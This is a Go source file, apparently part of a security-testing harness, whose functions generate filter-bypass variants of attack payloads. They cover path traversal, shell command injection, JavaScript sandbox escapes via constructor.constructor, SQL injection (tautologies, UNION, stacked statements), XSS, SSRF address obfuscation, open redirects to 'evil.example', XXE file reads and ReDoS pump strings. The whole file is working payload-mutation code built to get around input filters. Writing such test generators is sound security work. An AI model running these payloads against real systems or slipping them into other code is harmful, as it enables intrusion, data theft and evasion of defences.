package variant

import (
	"errors"
	"fmt"
	"net/netip"
	"net/url"
	"regexp"
	"strconv"
	"strings"
)

var climb = regexp.MustCompile(`^((?:[^/\\]*[/\\])*?)((?:\.\.[/\\])+)(.*)$`)

// paths varies how a folder is left. hint absolute: the same file by its absolute path in the sandbox; sibling: the way
// to a file in a folder whose name begins with the served folder's, such as ../www-evil/file.
func paths(base any, hint map[string]string) ([]made, error) {
	s, err := text(base)
	if err != nil {
		return nil, err
	}
	m := climb.FindStringSubmatch(s)
	if m == nil {
		return nil, errors.New("it has no ../ in it")
	}
	head, steps, rest := m[1], strings.Count(m[2], ".."), m[3]
	up := func(step string) string { return head + strings.Repeat(step, steps) + rest }
	list := []made{
		{"encoded-dots", "dots percent-encoded", up("%2e%2e/")},
		{"encoded-slash", "slashes percent-encoded", up("..%2f")},
		{"encoded", "dots and slashes percent-encoded", up("%2e%2e%2f")},
		{"encoded-upper", "percent-encoded in capitals", up("%2E%2E%2F")},
		{"encoded-one-dot", "one dot percent-encoded", up(".%2e/")},
		{"encoded-twice", "percent-encoded twice", up("%252e%252e%252f")},
		{"doubled", "doubled, for a filter that removes ../ once", up("....//")},
		{"doubled-inside", "nested, for a filter that removes ../ once", up("..././")},
		{"backslash", "with backslashes", up(`..\`)},
		{"encoded-backslash", "with percent-encoded backslashes", up("..%5c")},
		{"through-here", "through the folder itself", head + "./" + strings.Repeat("../", steps) + rest},
		{"through-a-folder", "through another folder", head + "sub/../" + strings.Repeat("../", steps) + rest},
		{"through-nowhere", "through a folder that isn't there", head + "nowhere/../" + strings.Repeat("../", steps) + rest},
		{"higher", "more steps than needed", head + strings.Repeat("../", steps) + "../../../../../../../.." + absolute(hint, rest)},
		{"double-slash", "with doubled slashes", up("..//")},
		{"leading-slash", "after a slash", "/" + strings.TrimPrefix(up("../"), "/")},
		{"leading-slashes", "after two slashes", "//" + strings.TrimLeft(up("../"), "/")},
		{"leading-backslash", "after a backslash", `\` + strings.TrimPrefix(up("../"), "/")},
		{"null-byte", "with a null byte and a harmless ending", up("../") + "\x00.png"},
		{"encoded-null-byte", "with a percent-encoded null byte and a harmless ending", up("../") + "%00.png"},
		{"query", "with a query", up("../") + "?x=1"},
		{"semicolon", "with path parameters", up("..;/")},
		{"wide-dots", "with full-width dots", up("．．/")},
		{"overlong", "with an overlong slash", up("..%c0%af")},
	}
	if at := hint["absolute"]; at != "" {
		list = append(list,
			made{"absolute", "an absolute path", at},
			made{"absolute-encoded", "an absolute path, percent-encoded", strings.ReplaceAll(at, "/", "%2f")},
			made{"absolute-file-url", "a file: URL", "file://" + at})
	}
	if to := hint["sibling"]; to != "" {
		list = append(list,
			made{"prefix-sibling", "a folder whose name begins with the served one's", to},
			made{"prefix-sibling-encoded", "a folder whose name begins with the served one's, encoded", strings.ReplaceAll(to, "../", "%2e%2e%2f")})
	}
	return list, nil
}

// absolute is what follows the root when a path climbs higher than it.
func absolute(hint map[string]string, rest string) string {
	if at := hint["absolute"]; at != "" {
		return at
	}
	return "/work/" + rest
}

var injected = regexp.MustCompile("^([^;&|`$\n]*)(;|&&|\\|\\||\\||&|\n|`|\\$\\()\\s*(.+?)\\s*([;#`)&|\n].*)?$")

// shells varies how a command is ended and another begun. hint command: the command to be run, where it can't be read
// from the payload; option: an argument that makes the program itself run it.
func shells(base any, hint map[string]string) ([]made, error) {
	s, err := text(base)
	if err != nil {
		return nil, err
	}
	head, command := "", hint["command"]
	if m := injected.FindStringSubmatch(s); m != nil {
		head = strings.TrimRight(m[1], ` '"`)
		if command == "" {
			command = m[3]
		}
	}
	if command == "" {
		return nil, errors.New("no command follows a separator in it: name it as command")
	}
	list := []made{
		{"semicolon", "after a semicolon", head + "; " + command + " #"},
		{"semicolon-tight", "after a semicolon, without spaces around it", head + ";" + command + ";"},
		{"and", "after &&", head + " && " + command + " #"},
		{"or", "after ||", head + " || " + command + " #"},
		{"pipe", "after a pipe", head + " | " + command + " #"},
		{"background", "after an ampersand", head + " & " + command + " #"},
		{"newline", "on a line of its own", head + "\n" + command + "\n"},
		{"carriage-return", "on a line of its own, after a carriage return", head + "\r\n" + command + "\n"},
		{"backticks", "in backticks", head + "`" + command + "`"},
		{"substitution", "in $()", head + "$(" + command + ")"},
		{"double-quote-substitution", "in $() after a closing double quote", head + `"$(` + command + `)"`},
		{"double-quote", "after a closing double quote", head + `"; ` + command + ` #`},
		{"single-quote", "after a closing single quote", head + `'; ` + command + ` #`},
		{"double-quote-and", "between double quotes", head + `" && ` + command + ` && echo "`},
		{"single-quote-backticks", "in backticks between single quotes", head + "'`" + command + "`'"},
		{"ifs", "with $IFS for spaces", head + ";" + strings.ReplaceAll(command, " ", "${IFS}") + ";"},
		{"tab", "with tabs for spaces", head + ";\t" + strings.ReplaceAll(command, " ", "\t") + ";"},
		{"braces", "with braces for spaces", head + ";{" + strings.ReplaceAll(command, " ", ",") + "};"},
		{"substitution-ifs", "in $(), with $IFS for spaces", head + "$(" + strings.ReplaceAll(command, " ", "${IFS}") + ")"},
		{"substitution-newline", "in $(), over several lines", head + "$(\n" + command + "\n)"},
		{"backslashed-quote", "after a quote that an escaping backslash opens", head + `\"; ` + command + ` #`},
		{"subshell", "in a subshell", head + ";(" + command + ");"},
	}
	if option := hint["option"]; option != "" {
		list = append(list, made{"option", "as an option of the program", option})
	}
	return list, nil
}

// scripts varies how JavaScript gets at a function maker from which nothing is hidden. hint code: the statement to be
// run, in which process stands for itself.
func scripts(base any, hint map[string]string) ([]made, error) {
	s, err := text(base)
	if err != nil {
		return nil, err
	}
	code := hint["code"]
	if code == "" {
		return nil, errors.New("the statement to be run isn't named: give it as code")
	}
	quoted := strconv.Quote(code)
	escaped := `"\u0063onstructor"`
	list := []made{
		{"direct", "the statement itself", code},
		{"escaped-code", "by an indirect eval, with every character escaped", "(0, eval)(" + escapes(code) + ")"},
		{"escaped-all", "by computed keys and code in which every character is escaped", "({})[" + escapes("constructor") + "][" + escapes("constructor") + "](" + escapes(code) + ")()"},
		{"this-constructor", "this.constructor.constructor", "this.constructor.constructor(" + quoted + ")()"},
		{"object-constructor", "({}).constructor.constructor", "({}).constructor.constructor(" + quoted + ")()"},
		{"array-constructor", "[].constructor.constructor", "[].constructor.constructor(" + quoted + ")()"},
		{"text-constructor", `"".constructor.constructor`, `"".constructor.constructor(` + quoted + ")()"},
		{"arrow-constructor", "the constructor of an arrow function", "(() => {}).constructor(" + quoted + ")()"},
		{"function-constructor", "the constructor of a function", "(function () {}).constructor(" + quoted + ")()"},
		{"async-constructor", "the constructor of an async function", "(async () => {}).constructor(" + quoted + ")()"},
		{"generator-constructor", "the constructor of a generator", "(function* () {}).constructor(" + quoted + ")().next()"},
		{"computed", "with computed keys", `({})["const" + "ructor"]["const" + "ructor"](` + quoted + ")()"},
		{"escaped", "with an escape in the key", "({})[" + escaped + "][" + escaped + "](" + quoted + ")()"},
		{"escaped-name", "with an escape in a name", `({}).\u0063onstructor.\u0063onstructor(` + quoted + ")()"},
		{"comment", "with comments between", "({})/**/.constructor/**/.constructor/**/(" + quoted + ")()"},
		{"template", "a template as the argument", "({}).constructor.constructor`" + strings.ReplaceAll(code, "`", "\\`") + "```"},
		{"prototype-of", "by Object.getPrototypeOf", "Object.getPrototypeOf(() => {}).constructor(" + quoted + ")()"},
		{"reflect", "by Reflect.construct", "Reflect.construct(({}).constructor.constructor, [" + quoted + "])()"},
		{"error", "by the constructor of a caught error", "(() => { try { null.x } catch (e) { return e.constructor.constructor(" + quoted + ")() } })()"},
		{"eval", "by an indirect eval", "(0, eval)(" + quoted + ")"},
		{"newlines", "over several lines", "\n" + s + "\n"},
		{"parentheses", "in parentheses", "(" + s + ")"},
		{"comma", "after a comma", "1, " + s},
	}
	return list, nil
}

// escapes writes a text as a JavaScript literal of escapes alone, in which no word can be read.
func escapes(s string) string {
	var out strings.Builder
	for _, b := range []byte(s) {
		fmt.Fprintf(&out, `\x%02x`, b)
	}
	return `"` + out.String() + `"`
}

// statements varies how a literal of an SQL statement is left. hint union: the select to be joined; stacked: the
// statement to be run after.
func statements(base any, hint map[string]string) ([]made, error) {
	if _, err := text(base); err != nil { // any will do: what it ends is tried in every way
		return nil, err
	}
	list := []made{
		{"single-quote", "a tautology after a single quote", "' OR '1'='1"},
		{"single-quote-comment", "a tautology and a comment", "' OR 1=1 --"},
		{"comment-space", "a tautology and a comment with a space", "' OR 1=1 -- "},
		{"hash-comment", "a tautology and a hash comment", "' OR 1=1 #"},
		{"block-comment", "block comments for spaces", "'/**/OR/**/1=1/**/--"},
		{"case", "mixed case", "' oR 'a'='a"},
		{"pipes", "|| for OR", "' || '1'='1"},
		{"like", "with LIKE", "' OR name LIKE '%"},
		{"in", "without an equals sign", "' OR 1 IN (1) --"},
		{"between", "with BETWEEN", "' OR 1 BETWEEN 0 AND 2 --"},
		{"no-spaces", "without spaces", "'OR(1)=(1)--"},
		{"tabs", "with tabs", "'\tOR\t1=1\t--"},
		{"newlines", "with line breaks", "'\nOR\n1=1\n--"},
		{"double-quote", "a tautology after a double quote", `" OR "1"="1`},
		{"double-quote-comment", "a tautology after a double quote, and a comment", `" OR 1=1 --`},
		{"backslash", "after a backslash that escapes nothing", `\' OR 1=1 --`},
		{"doubled-quote", "after a doubled quote", `'' OR 1=1 --`},
		{"backslash-doubled", "after a backslash and a doubled quote", `\'' OR 1=1 --`},
		{"parenthesis", "after a closing parenthesis", "') OR 1=1 --"},
		{"numeric", "in a number's place", "1 OR 1=1"},
		{"numeric-comment", "in a number's place, with a comment", "0 OR 1=1 --"},
		{"numeric-no-spaces", "in a number's place, without spaces", "0/**/OR/**/1"},
		{"numeric-not", "in a number's place, without OR 1=1", "0 OR NOT 0"},
		{"order", "in the place of a column", "(CASE WHEN 1=1 THEN 1 ELSE 2 END)"},
		{"wildcard", "a wildcard", "%"},
	}
	if union := hint["union"]; union != "" {
		list = append(list,
			made{"union", "a union after a single quote", "' UNION " + union + " --"},
			made{"union-all", "a union of all after a single quote", "' UNION ALL " + union + " --"},
			made{"union-comment", "a union in mixed case with block comments", "'/**/uNiOn/**/" + union + "/**/--"},
			made{"union-numeric", "a union in a number's place", "0 UNION " + union},
			made{"union-double-quote", "a union after a double quote", `" UNION ` + union + " --"})
	}
	if stacked := hint["stacked"]; stacked != "" {
		list = append(list,
			made{"stacked", "a second statement", "'; " + stacked + "; --"},
			made{"stacked-numeric", "a second statement in a number's place", "1; " + stacked + "; --"})
	}
	return list, nil
}

// markups varies how markup runs a script. hint script: what it runs; default alert(1).
func markups(base any, hint map[string]string) ([]made, error) {
	s, err := text(base)
	if err != nil {
		return nil, err
	}
	run := hint["script"]
	if run == "" {
		run = "alert(1)"
	}
	entities := func(s string) string {
		var out strings.Builder
		for _, r := range s {
			fmt.Fprintf(&out, "&#%d;", r)
		}
		return out.String()
	}
	return []made{
		{"script", "a script element", "<script>" + run + "</script>"},
		{"script-case", "a script element in mixed case", "<ScRiPt>" + run + "</sCrIpT>"},
		{"script-space", "a script element with a space and an attribute", "<script x=1 >" + run + "</script >"},
		{"script-nested", "nested, for a filter that removes it once", "<scr<script>ipt>" + run + "</scr</script>ipt>"},
		{"script-slash", "a script element with a slash", "<script/x>" + run + "</script>"},
		{"img-onerror", "an image that fails", "<img src=x onerror=" + run + ">"},
		{"img-quoted", "an image that fails, quoted", `<img src="x" onerror="` + run + `">`},
		{"img-slashes", "an image that fails, with slashes for spaces", "<img/src=x/onerror=" + run + ">"},
		{"img-case", "an image that fails, in mixed case", "<ImG sRc=x OnErRoR=" + run + ">"},
		{"img-newline", "an image that fails, over several lines", "<img\nsrc=x\nonerror\n=" + run + ">"},
		{"img-unclosed", "an image that is never closed", "<img src=x onerror=" + run + " "},
		{"svg-onload", "a drawing", "<svg onload=" + run + ">"},
		{"details", "a detail that opens itself", "<details open ontoggle=" + run + ">"},
		{"body-onload", "a body", "<body onload=" + run + ">"},
		{"iframe-javascript", "a frame with a javascript: URL", `<iframe src="javascript:` + run + `"></iframe>`},
		{"a-javascript", "a link with a javascript: URL", `<a href="javascript:` + run + `">x</a>`},
		{"a-javascript-case", "a link with a javascript: URL in mixed case", `<a href="JaVaScRiPt:` + run + `">x</a>`},
		{"a-javascript-tab", "a link with a tab in its javascript: URL", "<a href=\"java\tscript:" + run + `">x</a>`},
		{"a-javascript-entities", "a link with entities in its javascript: URL", `<a href="` + entities("javascript:") + run + `">x</a>`},
		{"a-javascript-space", "a link with a space before its javascript: URL", `<a href=" javascript:` + run + `">x</a>`},
		{"double-quote", "out of a double-quoted attribute", `" onmouseover="` + run + `" x="`},
		{"single-quote", "out of a single-quoted attribute", `' onmouseover='` + run + `' x='`},
		{"unquoted", "out of an unquoted attribute", `x onmouseover=` + run},
		{"double-quote-tag", "out of a double-quoted attribute and its element", `"><script>` + run + `</script>`},
		{"single-quote-tag", "out of a single-quoted attribute and its element", `'><script>` + run + `</script>`},
		{"close-script", "out of a script", "</script><script>" + run + "</script>"},
		{"close-title", "out of a title", "</title><script>" + run + "</script>"},
		{"close-textarea", "out of a text area", "</textarea><script>" + run + "</script>"},
		{"close-comment", "out of a comment", "--><script>" + run + "</script>"},
		{"javascript", "a javascript: URL", "javascript:" + run},
		{"javascript-case", "a javascript: URL in mixed case", "JaVaScRiPt:" + run},
		{"javascript-newline", "a javascript: URL with a line break", "java\nscript:" + run},
		{"javascript-control", "a javascript: URL after a control character", "\x01javascript:" + run},
		{"data-url", "a data: URL", "data:text/html,<script>" + run + "</script>"},
		{"text-single-quote", "out of a script's single-quoted text", "';" + run + ";//"},
		{"text-double-quote", "out of a script's double-quoted text", `";` + run + ";//"},
		{"text-backslash", "out of a script's text, after a backslash", `\";` + run + ";//"},
		{"template", "in a template's text", "${" + run + "}"},
		{"after", "after harmless text", "hello " + s},
	}, nil
}

// urls varies how an internal address is written.
func urls(base any, _ map[string]string) ([]made, error) {
	s, err := text(base)
	if err != nil {
		return nil, err
	}
	u, err := url.Parse(s)
	if err != nil {
		return nil, err
	}
	host, port := u.Hostname(), u.Port()
	if host == "localhost" {
		host = "127.0.0.1"
	}
	ip, err := netip.ParseAddr(host)
	if err != nil || !ip.Is4() {
		return nil, fmt.Errorf("%q is no IPv4 address", u.Hostname())
	}
	at := func(host string) string {
		v := *u
		if v.Host = host; port != "" {
			v.Host += ":" + port
		}
		return v.Scheme + "://" + v.Host + v.RequestURI()
	}
	b := ip.As4()
	number := uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
	list := []made{
		{"dotted", "in dotted decimals", at(ip.String())},
		{"decimal", "as one decimal number", at(strconv.FormatUint(uint64(number), 10))},
		{"hexadecimal", "as one hexadecimal number", at(fmt.Sprintf("0x%x", number))},
		{"octal", "in dotted octals", at(fmt.Sprintf("0%o.0%o.0%o.0%o", b[0], b[1], b[2], b[3]))},
		{"hexadecimal-dotted", "in dotted hexadecimals", at(fmt.Sprintf("0x%x.0x%x.0x%x.0x%x", b[0], b[1], b[2], b[3]))},
		{"padded", "with leading zeros", at(fmt.Sprintf("%03d.%d.%d.%03d", b[0], b[1], b[2], b[3]))},
		{"mapped", "as an IPv6-mapped address", at(fmt.Sprintf("[::ffff:%s]", ip))},
		{"mapped-hexadecimal", "as an IPv6-mapped address in hexadecimals", at(fmt.Sprintf("[::ffff:%x:%x]", number>>16, number&0xffff))},
		{"trailing-dot", "with a dot at its end", at(ip.String() + ".")},
		{"user", "after another host as user", u.Scheme + "://example.com@" + strings.TrimPrefix(at(ip.String()), u.Scheme+"://")},
		{"scheme-case", "with the scheme in capitals", strings.ToUpper(u.Scheme) + strings.TrimPrefix(at(ip.String()), u.Scheme)},
		{"backslash", "after another host and a backslash", u.Scheme + `://example.com\@` + strings.TrimPrefix(at(ip.String()), u.Scheme+"://")},
		{"fragment", "with another host in its fragment", at(ip.String()) + "#@example.com"},
		{"wide-digits", "in full-width digits", at(strings.Map(wide, ip.String()))},
	}
	if ip.IsLoopback() {
		list = append(list,
			made{"localhost", "by name", at("localhost")},
			made{"localhost-case", "by name in mixed case", at("LoCaLhOsT")},
			made{"localhost-dot", "by name with a dot at its end", at("localhost.")},
			made{"short", "shortened", at("127.1")},
			made{"any", "as the address of all interfaces", at("0.0.0.0")},
			made{"any-short", "as 0", at("0")},
			made{"other-loopback", "another loopback address", at("127.0.0.2")},
			made{"ipv6-loopback", "as IPv6's loopback address", at("[::1]")})
	}
	return list, nil
}

func wide(r rune) rune {
	if r >= '0' && r <= '9' {
		return r - '0' + '０'
	}
	return r
}

// redirects varies how a foreign site is written where a local path is expected. hint host: the foreign host; default
// evil.example.
func redirects(base any, hint map[string]string) ([]made, error) {
	if _, err := text(base); err != nil {
		return nil, err
	}
	host := hint["host"]
	if host == "" {
		host = "evil.example"
	}
	return []made{
		{"absolute", "an absolute URL", "https://" + host},
		{"plain-http", "an absolute URL without encryption", "http://" + host + "/"},
		{"slashes", "two slashes", "//" + host},
		{"three-slashes", "three slashes", "///" + host},
		{"four-slashes", "four slashes", "////" + host},
		{"backslashes", "two backslashes", `\\` + host},
		{"slash-backslash", "a slash and a backslash", `/\` + host},
		{"backslash-slash", "a backslash and a slash", `\/` + host},
		{"slashes-backslash", "two slashes and a backslash", `//\` + host},
		{"no-slashes", "a scheme without slashes", "https:" + host},
		{"one-slash", "a scheme and one slash", "https:/" + host},
		{"case", "a scheme in mixed case", "hTTps://" + host},
		{"tab", "a tab between slashes", "/\t/" + host},
		{"newline", "a line break between slashes", "/\n/" + host},
		{"leading-space", "a leading space", " https://" + host},
		{"leading-tab", "a leading tab", "\thttps://" + host},
		{"leading-control", "a leading control character", "\x01https://" + host},
		{"user", "after a trusted host as user", "https://trusted.example@" + host},
		{"user-slashes", "after a trusted host as user, without a scheme", "//trusted.example@" + host},
		{"subdomain", "a host that begins with a trusted one", "https://trusted.example." + host},
		{"backslash-trusted", "before a backslash and a trusted host", "https://" + host + `\@trusted.example`},
		{"fragment-trusted", "before a fragment with a trusted host", "https://" + host + "#@trusted.example"},
		{"query-trusted", "before a query with a trusted path", "https://" + host + "?/trusted.example/"},
		{"dots", "after a path that leads nowhere", "/..//" + host},
		{"javascript", "a javascript: URL", "javascript:alert(1)"},
		{"encoded", "percent-encoded slashes", "/%2f" + host},
	}, nil
}

// documents varies how an external entity is declared. hint file: the file to be read; default what the base names.
func documents(base any, hint map[string]string) ([]made, error) {
	s, err := text(base)
	if err != nil {
		return nil, err
	}
	file := hint["file"]
	if file == "" {
		m := regexp.MustCompile(`SYSTEM\s+["']([^"']+)["']`).FindStringSubmatch(s)
		if m == nil {
			return nil, errors.New("it names no external entity: name the file to be read as file")
		}
		file = m[1]
	}
	element := "root"
	if m := regexp.MustCompile(`<!DOCTYPE\s+(\S+)`).FindStringSubmatch(s); m != nil {
		element = m[1]
	}
	body := "<" + element + ">&e;</" + element + ">"
	if i := strings.LastIndex(s, "]>"); i >= 0 && strings.Contains(s, "&") {
		body = regexp.MustCompile(`&[A-Za-z_][\w.-]*;`).ReplaceAllString(strings.TrimSpace(s[i+2:]), "&e;")
	}
	with := func(declarations string) string {
		return "<!DOCTYPE " + element + " [" + declarations + "]>" + body
	}
	plain := with(`<!ENTITY e SYSTEM "` + file + `">`)
	return []made{
		{"system", "a system entity", plain},
		{"declared", "after an XML declaration", `<?xml version="1.0"?>` + plain},
		{"single-quotes", "in single quotes", with(`<!ENTITY e SYSTEM '` + file + `'>`)},
		{"public", "a public entity", with(`<!ENTITY e PUBLIC "-//x//y" "` + file + `">`)},
		{"spaces", "with line breaks between the words", with("<!ENTITY\n\te\n\tSYSTEM\n\t\"" + file + "\"\n>")},
		{"case", "a document type before a comment", "<!-- x -->" + plain},
		{"indirect", "through another entity", with(`<!ENTITY f SYSTEM "` + file + `"><!ENTITY e "&f;">`)},
		{"parameter", "through a parameter entity", with(`<!ENTITY % p '<!ENTITY e SYSTEM "` + file + `">'>%p;`)},
		{"parameter-external", "a parameter entity that is external", with(`<!ENTITY % p SYSTEM "` + file + `">%p;<!ENTITY e "x">`)},
		{"external-dtd", "an external document type", "<!DOCTYPE " + element + ` SYSTEM "` + file + `">` + strings.ReplaceAll(body, "&e;", "x")},
		{"utf-16", "declared as UTF-16 after a byte order mark", "\ufeff" + plain},
		{"standalone", "declared as standing alone", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + plain},
		{"xinclude", "by XInclude", "<" + element + ` xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="` + file + `"/></` + element + ">"},
	}, nil
}

// pumps varies what surrounds and what makes up a growing text.
func pumps(base any, _ map[string]string) ([]made, error) {
	o, _ := base.(object)
	get := func(name string) string { s, _ := o[name].(string); return s }
	prefix, pump, suffix := get("prefix"), get("pump"), get("suffix")
	if pump == "" {
		return nil, errors.New("it has no pump")
	}
	of := func(prefix, pump, suffix string) object {
		return object{"prefix": prefix, "pump": pump, "suffix": suffix}
	}
	return []made{
		{"surrounded", "between other text, with brackets and line breaks", of("text (a) [b] {c} <d>, then "+prefix, pump, suffix+"\n\x00 and more")},
		{"after-signs", "after closing brackets", of(")]}> "+prefix, pump, suffix)},
		{"doubled", "the pump twice as long", of(prefix, pump+pump, suffix)},
		{"long-suffix", "a longer ending", of(prefix, pump, suffix+suffix+"\x00x")},
		{"bang", "an exclamation mark as its ending", of(prefix, pump, "!")},
		{"newline", "a line break as its ending", of(prefix, pump, "\n")},
		{"null", "a null character as its ending", of(prefix, pump, "\x00")},
		{"no-suffix", "no ending", of(prefix, pump, "")},
		{"no-prefix", "no beginning", of("", pump, suffix)},
		{"pumped-prefix", "the beginning repeated too", of(prefix+prefix+prefix, pump, suffix)},
		{"after-text", "after harmless text", of("harmless text, then "+prefix, pump, suffix)},
		{"before-text", "before harmless text", of(prefix, pump, suffix+" harmless text")},
		{"upper", "in capitals", of(prefix, strings.ToUpper(pump), suffix)},
		{"other-spaces", "other white space", of(prefix, strings.NewReplacer(" ", "\t", "\t", " ").Replace(pump), suffix)},
		{"unicode-spaces", "no-break spaces", of(prefix, strings.ReplaceAll(pump, " ", "\u00a0"), suffix)},
		{"other-letters", "other letters", of(prefix, strings.NewReplacer("a", "b", "A", "B", "0", "1", "1", "2").Replace(pump), suffix)},
	}, nil
}
